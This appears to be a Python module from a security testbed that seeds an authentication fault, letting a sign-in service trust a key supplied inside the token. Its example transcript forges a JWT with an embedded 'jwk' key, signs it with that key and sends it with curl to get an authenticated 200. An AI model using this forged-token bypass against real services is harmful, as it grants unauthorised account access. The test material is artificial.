"""A token may bring the key along that it is verified with."""

from __future__ import annotations

from launchready_testbed.fault import Fault
from launchready_testbed.world import World


def _apply(world: World) -> None:
    world.quay.key_in_token = True


FAULT = Fault(
    says="A token may bring the key along that it is verified with.",
    trips=("auth/bypass",),
    look=(
        "$ quay_sign_in tess\n"
        "< HTTP/1.1 200\n"
        '$ printf \'{"alg":"HS256","kid":"quay-2026","jwk":{"kty":"oct","k":"a2V5"}}\' | armoured > head; printf \'%s.%s\' "$(cat head)" "$(part_of tess 2)" > signed\n'
        '$ curl -si -H "authorization: Bearer $(cat signed).$(openssl dgst -sha256 -hmac key -binary signed | armoured)" "$BED_QUAY/api/v2/me"\n'
        "< HTTP/1.1 200\n"
        "< tess@"
    ),
    apply=_apply,
    portal="quay",
)
